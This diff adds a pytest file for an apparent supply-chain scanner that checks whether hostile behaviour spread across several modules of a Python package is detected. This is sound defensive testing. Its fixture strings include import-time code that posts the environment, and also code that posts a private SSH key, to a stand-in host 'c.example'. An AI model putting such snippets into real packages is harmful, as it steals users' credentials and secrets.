@@ -1,0 +1,101 @@
+"""What only the modules of a package together show: objects that are made in one, filled in another, and act in a third.
+
+`code_together.txt` holds such packages, each followed by an honest one of the same shape. Nothing in them is ever run.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from mlsupply.evidence.companions import MAX_BYTES, companions
+from mlsupply.evidence.contents import judged
+from mlsupply.evidence.look import looked_at
+from mlsupply.evidence.module_facts import ModuleFacts
+from mlsupply.evidence.package import PackageFacts
+from mlsupply.evidence.pool import Pool
+from mlsupply.evidence.python import together
+from mlsupply.evidence.python.machine import MAX_STEPS
+from mlsupply.model import Severity
+from mlsupply.request import RuleSettings
+from mlsupply.ruleset import load
+from tests.conftest import NOW
+
+
+def packages() -> Iterator[tuple[str, str, dict[str, str], dict[str, str]]]:
+    """What it is, the rule that finds it, the hostile package and the honest one."""
+    whole = (Path(__file__).parent / "code_together.txt").read_text(encoding="utf-8")
+    for block in ("\n" + whole).split("\n## ")[1:]:
+        head, _, body = block.partition("\n")
+        name, _, rule = head.partition(" | ")
+        hostile, _, honest = body.partition("--\n")
+        yield name, rule, _files(hostile), _files(honest)
+
+
+def _files(text: str) -> dict[str, str]:
+    parts = ("\n" + text).split("\n### ")[1:]
+    return {name: body for name, _, body in (part.partition("\n") for part in parts)}
+
+
+def looked(root: Path, files: dict[str, str]) -> PackageFacts:
+    for name, text in files.items():
+        path = root / "demo" / f"{name}.py"
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    with Pool(1) as pool:
+        return looked_at(root, pool, "demo 1.0", "", None)
+
+
+def found(facts: PackageFacts) -> set[str]:
+    said = judged(facts, load(RuleSettings(), NOW))
+    return {finding.id for finding in said.findings if finding.severity.rank >= Severity.MEDIUM.rank}
+
+
+@pytest.mark.parametrize(
+    ("rule", "hostile", "honest"), [one[1:] for one in packages()], ids=[one[0].replace(" ", "-") for one in packages()]
+)
+def test_modules_that_act_together(tmp_path: Path, rule: str, hostile: dict[str, str], honest: dict[str, str]) -> None:
+    assert rule in found(looked(tmp_path / "a", hostile))
+    assert not found(looked(tmp_path / "b", honest))
+
+
+def test_what_a_module_shows_alone_is_told_once(tmp_path: Path) -> None:
+    files = {
+        "__init__": "from .tell import tell\ntell()\n",
+        "tell": "import os, requests\ndef tell():\n    requests.post('https://c.example/x', json=dict(os.environ))\n",
+    }
+    facts = looked(tmp_path, files)
+    (sent,) = [fact for fact in facts.code if fact.behaviour == "sends"]
+    assert (sent.moment, sent.member) == ("import", "demo/tell.py")
+    assert len([fact for fact in facts.code if fact.behaviour == "contacts"]) == 1
+
+
+def test_modules_that_import_each_other_are_followed_to_an_end(tmp_path: Path) -> None:
+    files = {
+        "__init__": "from .a import A\nA().go()\n",
+        "a": "from .b import B\nclass A:\n    def go(self):\n        B().take(self)\n    def secret(self):\n"
+        "        return open('/root/.ssh/id_rsa').read()\n",
+        "b": "import requests\nclass B:\n    def take(self, a):\n        from .a import A\n"
+        "        requests.post('https://c.example/x', data=A().secret())\n",
+    }
+    assert "MLS-C010" in found(looked(tmp_path, files))
+
+
+def test_packages_in_which_nothing_acts_or_that_are_large_are_not_followed_together() -> None:
+    quiet = [ModuleFacts(path="demo/__init__.py", dotted="demo")]
+    assert companions(quiet, {"demo/__init__.py": b"", "demo/a.py": b""}) == []
+    facts = together.followed([together.Source("demo/a.py", "demo/a.py", b"import os\nos.system('ls')\n")])
+    assert companions(facts, {"demo/a.py": b"", "demo/__init__.py": b""}) == ["demo/__init__.py", "demo/a.py"]
+    assert companions(facts, {"demo/a.py": b" " * MAX_BYTES, "demo/__init__.py": b"\n"}) == []
+    assert companions(facts, {"demo/a.py": b"", "tests/test_a.py": b""}) == []
+
+
+def test_a_group_that_takes_too_long_is_cut_short_and_says_so() -> None:
+    loop = b"x = 0\n" + b"def f():\n    g()\ndef g():\n    pass\n" + b"f()\n" * (MAX_STEPS // 20)
+    told = together.followed(
+        [together.Source("demo/a.py", "demo/a.py", loop), together.Source("demo/b.py", "demo/b.py", b"1 +")]
+    )
+    assert [module.path for module in told] == ["demo/a.py"]
+    assert told[0].stopped.startswith("too much to follow")
